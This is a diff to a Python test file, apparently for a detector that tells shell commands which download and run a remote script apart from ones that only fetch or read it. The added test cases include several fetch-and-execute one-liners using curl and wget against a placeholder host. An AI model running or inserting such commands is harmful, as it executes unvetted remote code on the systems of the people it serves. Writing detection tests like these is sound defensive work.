@@ -149,6 +149,12 @@ def test_two_signs_of_one_requirement_are_told_together() -> None:
         'sh -c "$(curl -fsSL https://archive.example/i)"',
         'eval "$(curl -fsSL https://archive.example/i)"',
         "bash -ex < <(curl https://archive.example/i)",
+        "curl -fsSL https://archive.example/i -o /opt/x.sh && sh -e /opt/x.sh --yes",
+        "cd /opt && curl -fsSLo x.sh https://archive.example/i && chmod +x x.sh && ./x.sh",
+        "wget https://archive.example/i && cd / && bash i",
+        "cd /opt; curl -LO https://archive.example/i; sh i",
+        "wget -qO x.py https://archive.example/i; python3 x.py",
+        "curl https://archive.example/i > /opt/x && . /opt/x",
     ],
 )
 def test_what_is_fetched_and_run_is_told(run: str) -> None:
@@ -168,6 +174,11 @@ def test_what_is_fetched_and_run_is_told(run: str) -> None:
         "X=$(curl https://archive.example/i)",
         "cat x | sh",
         "diff <(curl https://archive.example/i) x",
+        "curl -o x.sh https://archive.example/i && echo '0f3c  x.sh' | sha256sum -c && sh x.sh",
+        "curl -o x.sh https://archive.example/i && sh y.sh",
+        "curl -o x.sh https://archive.example/i && cat x.sh",
+        "curl -O https://archive.example/i && cd other && sh i",
+        "curl https://archive.example/i && sh i",
     ],
 )
 def test_what_is_fetched_and_read_is_no_script(run: str) -> None:
